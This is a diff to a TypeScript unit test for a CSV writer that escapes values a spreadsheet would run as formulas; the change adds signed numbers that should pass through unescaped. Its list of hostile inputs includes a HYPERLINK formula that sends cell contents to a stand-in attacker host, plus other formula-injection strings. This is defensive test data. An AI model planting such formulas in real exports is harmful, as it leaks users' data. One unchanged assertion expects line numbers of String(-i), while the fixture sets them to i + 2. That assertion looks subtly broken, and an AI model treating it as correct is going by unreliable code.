@@ -9,9 +9,10 @@ import { QueueWriter, readQueues, queuePath } from '../../../engine/run/queue-re
 import type { QueueRow } from '../../../engine/run/load-runner.js';
 import { InputError } from '../../../engine/util/input-error.js';
 
-/** Values a spreadsheet would run as formulas, a harmless one, and one a person typed with a leading quote. */
-const HOSTILE = ['=1+2', '+44 20 7946 0000', '-5', '@SUM(A1:A9)', '\t=cmd', '\r=cmd', '=HYPERLINK("http://evil.example/?"&A1)'];
-const VALUES = [...HOSTILE, "'quoted by a person", "''twice", 'plain value', ''];
+/** Values a spreadsheet would run as formulas, signed amounts it reads as numbers, and one a person typed with a quote. */
+const HOSTILE = ['=1+2', '+44 20 7946 0000', '-5+3', '-A1', '@SUM(A1:A9)', '\t=cmd', '\r=cmd', '=HYPERLINK("http://evil.example/?"&A1)'];
+const SIGNED_NUMBERS = ['-5', '-1,234.50', '+7'];
+const VALUES = [...HOSTILE, ...SIGNED_NUMBERS, "'quoted by a person", "''twice", 'plain value', ''];
 
 function queueRow(value: string, i: number): QueueRow {
   return { file: 'contacts.csv', line: i + 2, load: 'contacts', source_key: value, column: 'Company ID', value, reason: `no company ${value}`, resolution: value };
@@ -31,7 +32,7 @@ describe('CSVs written for people', () => {
     await writer.close();
     const raw = readSpreadsheetCsvRaw(path);
     expect(raw).toHaveLength(VALUES.length);
-    expect(raw.map((r) => r.value)).toEqual([...HOSTILE.map((v) => `'${v}`), "''quoted by a person", "'''twice", 'plain value', '']);
+    expect(raw.map((r) => r.value)).toEqual([...HOSTILE.map((v) => `'${v}`), ...SIGNED_NUMBERS, "''quoted by a person", "'''twice", 'plain value', '']);
     // Numbers are ours (line numbers), not the customer's: written as numbers.
     expect(raw.map((r) => r.line)).toEqual(VALUES.map((_, i) => String(-i)));
   });
